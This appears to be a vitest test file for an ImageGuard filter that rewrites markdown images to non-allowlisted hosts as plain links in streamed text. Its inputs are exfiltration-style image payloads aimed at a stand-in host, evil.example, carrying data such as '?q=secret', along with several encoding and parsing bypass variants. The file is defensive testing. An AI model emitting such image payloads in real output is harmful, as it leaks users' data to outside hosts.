import { describe, expect, test } from 'vitest';
import { ImageGuard } from '../../server/src/domain/image-guard.ts';

const ALLOWED = ['https://images.example.com'];

/** A text as it is shown when it comes in pieces of a length. */
function shown(text: string, length: number): string {
  const guard = new ImageGuard(ALLOWED);
  let out = '';
  for (let at = 0; at < text.length; at += length) out += guard.push(text.slice(at, at + length));
  return out + guard.flush();
}

const lengths = [1, 2, 3, 7, 1_000_000];

describe.each(lengths)('in pieces of %i', (length) => {
  test.each([
    ['![a](https://evil.example/?q=secret)', '[a](https://evil.example/?q=secret)'],
    ['See ![a](//evil.example/x) and go on!', 'See [a](//evil.example/x) and go on!'],
    ['![a](<https://evil.example/a b>)', '[a](<https://evil.example/a b>)'],
    ['![a]( HTTPS://EVIL.example?x)', '[a]( HTTPS://EVIL.example?x)'],
    ['![a](https://images.example.com.evil.example/x)', '[a](https://images.example.com.evil.example/x)'],
    ['![a](https://images.example.com@evil.example/x)', '[a](https://images.example.com@evil.example/x)'],
    ['![a](https:&#47;&#47;evil.example/x)', '[a](https:&#47;&#47;evil.example/x)'],
    ['![a](/&#47;evil.example/x)', '[a](/&#47;evil.example/x)'],
    ['![a](/\\evil.example/x)', '[a](/\\evil.example/x)'],
    ['![a](ftp://evil.example/x)', '[a](ftp://evil.example/x)'],
    ['![a](https://evil.example)', '[a](https://evil.example)'],
    ['![a [b](c) \\] d](https://evil.example/x "t")', '[a [b](c) \\] d](https://evil.example/x "t")'],
    ['![![a](https://e.example/1)](https://e.example/2)', '[[a](https://e.example/1)](https://e.example/2)'],
    ['![a][b]\n\n[b]: https://evil.example/x', '[a][b]\n\n[b]: https://evil.example/x'],
    ['![a]\n\n[a]: https://evil.example/x', '[a]\n\n[a]: https://evil.example/x'],
    ['`![a](https://evil.example/x)', '`[a](https://evil.example/x)'],
    ['``` x\n```\n![a](https://evil.example/x)', '``` x\n```\n[a](https://evil.example/x)'],
  ])('C4, G5: an image of another host becomes a link: %s', (text, expected) => {
    expect(shown(text, length)).toBe(expected);
  });

  test.each([
    'No image! Not even this one!! [a](https://docs.example/x)',
    '![logo](/logo.png) ![here](#a) ![near](./a/b.png)',
    '![chart](https://images.example.com/chart.png) ![all](https://images.example.com)',
    '```md\n![a](https://docs.example/x)\n```\nThat is how.',
    '~~~~\n```\n![a](https://docs.example/x)\n~~~~',
    'Write `vec![1, 2]` or `vec![0; n]`, and `!x`.',
    'In the end there is a mark!',
    'مرحبا! 👋 ![شعار](/logo.png)',
  ])('A8: everything else stays as it is: %s', (text) => {
    expect(shown(text, length)).toBe(text);
  });
});

test('C4: what never says where it leads is held back for so long, and then is no image', () => {
  const guard = new ImageGuard(ALLOWED);
  expect(guard.push(`![${'a'.repeat(1_000)}`)).toBe('');
  expect(guard.push('a'.repeat(2_000))).toBe(`[${'a'.repeat(3_000)}`);
});

test('C4: a text is shown at once as far as it is sure', () => {
  const guard = new ImageGuard(ALLOWED);
  expect(guard.push('Look! Here is ![a](https://ev')).toBe('Look! Here is ');
  expect(guard.push('il.example/')).toBe('[a](https://evil.example/');
  expect(guard.push('?q=secret) ')).toBe('?q=secret) ');
});
